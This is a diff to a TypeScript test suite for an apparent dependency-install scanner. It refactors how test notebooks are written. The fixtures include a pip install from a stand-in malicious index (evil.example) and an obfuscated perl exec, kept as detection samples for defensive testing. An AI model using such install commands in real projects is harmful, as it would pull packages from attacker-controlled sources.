@@ -50,6 +50,26 @@ function lineOf(file: string, needle: string): number {
   return i + 1;
 }
 
+/** A notebook of code cells (`cells`: their sources) written to `file`. */
+function writeNotebook(file: string, cells: string[]): void {
+  const code = (source: string) => ({
+    cell_type: 'code',
+    metadata: {},
+    source,
+    outputs: [],
+    execution_count: null
+  });
+  fs.writeFileSync(
+    file,
+    JSON.stringify({
+      nbformat: 4,
+      nbformat_minor: 5,
+      metadata: {},
+      cells: cells.map(code)
+    })
+  );
+}
+
 const summary = (list: JsonFinding[]) =>
   list
     .filter(f => f.ruleId.startsWith('install-'))
@@ -238,21 +258,7 @@ describe('warden-scan: dependency manifests', () => {
         `${clone} -r requirements.txt -i https://evil.example/simple`,
         '!pip install -r requirements.txt' // no writer: read now, and missing
       ];
-      fs.writeFileSync(
-        path.join(dir, 'clone.ipynb'),
-        JSON.stringify({
-          nbformat: 4,
-          nbformat_minor: 5,
-          metadata: {},
-          cells: cells.map(source => ({
-            cell_type: 'code',
-            metadata: {},
-            source,
-            outputs: [],
-            execution_count: null
-          }))
-        })
-      );
+      writeNotebook(path.join(dir, 'clone.ipynb'), cells);
       expect(summary(findings([dir]))).toEqual([
         'clone.ipynb[1]:1 install-imitation-name',
         'clone.ipynb[2]:1 install-index-not-allowed',
@@ -273,21 +279,7 @@ describe('warden-scan: dependency manifests', () => {
         '%time perl -e \'exec("u"."v", "sync")\'', // Python: perl is a name here
         '%time y = sum(range(3))'
       ];
-      fs.writeFileSync(
-        path.join(dir, 'timed.ipynb'),
-        JSON.stringify({
-          nbformat: 4,
-          nbformat_minor: 5,
-          metadata: {},
-          cells: cells.map(source => ({
-            cell_type: 'code',
-            metadata: {},
-            source,
-            outputs: [],
-            execution_count: null
-          }))
-        })
-      );
+      writeNotebook(path.join(dir, 'timed.ipynb'), cells);
       expect(
         summary(findings([dir])).filter(f => f.includes(' install-'))
       ).toEqual([
